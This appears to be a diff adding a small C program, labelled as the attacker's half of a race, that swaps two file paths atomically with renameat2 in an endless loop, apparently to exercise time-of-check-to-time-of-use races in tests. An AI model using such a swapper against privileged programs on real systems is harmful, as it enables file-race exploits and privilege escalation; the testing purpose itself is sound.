@@ -1,0 +1,13 @@
+/* The attacker's half of a race: exchanges two paths in one step, again and again, until it is killed. */
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+
+int main(int argc, char **argv)
+{
+	if (argc != 3)
+		return 2;
+	for (;;)
+		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE))
+			return 1;
+}
